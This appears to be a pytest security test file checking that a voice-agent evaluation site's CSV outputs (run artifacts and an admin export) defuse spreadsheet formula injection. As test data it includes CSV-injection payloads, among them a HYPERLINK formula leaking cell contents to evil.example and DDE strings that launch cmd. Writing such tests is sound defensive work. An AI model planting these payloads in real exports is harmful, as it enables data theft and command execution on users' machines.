"""Issue 14 item 7: no cell of a CSV the project writes starts a spreadsheet formula — not what
an agent under test says (all_latencies.csv, in the run's zip), not a review note (the admin's
CSV export). Live site; the agent is a real bot server saying formulas."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from tests.security.helpers import logged_in_session, start_run, wait_for_run
from tests.voice.human.helpers import csrf_headers
from voice.protocol.websocket import serve_websocket
from voice.testing.double import DoubleOptions, ScriptedTurn, double_host

pytestmark = pytest.mark.slow(seconds=5)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what spreadsheets run as a formula (the list)
HOSTILE_LINES = ("Hello, how can I help?", '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
                 "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 Goodbye.")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(cells: list[str]) -> None:
    formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not formulas, formulas


async def test_an_agent_saying_formulas_cannot_put_them_into_all_latencies_csv(site) -> None:
    script = tuple(ScriptedTurn(line, end=(index == len(HOSTILE_LINES) - 1)) for index, line in enumerate(HOSTILE_LINES))
    bot = await serve_websocket(double_host(DoubleOptions(role="agent", modality="text", script=script)))
    tester = await logged_in_session(site)
    try:
        status, page, run_id = await start_run(tester, site, agent_url=bot.url, scenarios=["eva_airline__1_1_3"])
        assert run_id is not None, page
        assert (await wait_for_run(site, run_id)).strip() == "finished"
        async with tester.get(f"{site.url}/runs/{run_id}/artifacts.zip") as response:
            assert response.status == 200
            archive = zipfile.ZipFile(io.BytesIO(await response.read()))
    finally:
        await tester.close()
        await bot.close()
    name = next(n for n in archive.namelist() if n.endswith("/all_latencies.csv"))
    cells = _cells(archive.read(name).decode())
    for line in HOSTILE_LINES[1:5]:  # the agent's words are there, inert
        assert "'" + line in cells, (line, cells)
    _assert_safe(cells)


async def test_the_admin_export_never_writes_a_formula(site) -> None:
    notes = ("=HYPERLINK(\"http://evil.example\",\"see\")", "\t+1 looks fine", "\r\n@SUM(A1:A9)")
    result_ids = site.python(
        "from scoring.models import Run, ScenarioResult\n"
        "run = Run.objects.create(timestamp='20260101_000009', session_dir='/nonexistent/eval_20260101_000009')\n"
        f"for trial, note in enumerate({notes!r}, 1):\n"
        "    r = ScenarioResult.objects.create(run=run, scenario_name='@eva_airline__1_1_3', trial=trial,"
        " stop_reason='-[EXIT]', reviewed=True, review_note=note, metrics={})\n"
        "    print(r.pk)").split()
    staff = await logged_in_session(site, "sam", "sam-pw-123")
    try:
        changelist = f"{site.url}/admin/scoring/scenarioresult/"
        async with staff.get(changelist) as response:
            assert response.status == 200
            page = await response.text()
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
        data = [("action", "export_csv"), ("index", "0"), ("csrfmiddlewaretoken", token),
                *(("_selected_action", pk) for pk in result_ids)]
        async with staff.post(changelist, data=data, headers=csrf_headers(staff, site)) as response:
            assert response.status == 200 and response.headers["Content-Type"].startswith("text/csv")
            exported = await response.text()
    finally:
        await staff.close()
    cells = _cells(exported)
    assert all("'" + note in cells for note in notes) and "'@eva_airline__1_1_3" in cells and "'-[EXIT]" in cells
    _assert_safe(cells)
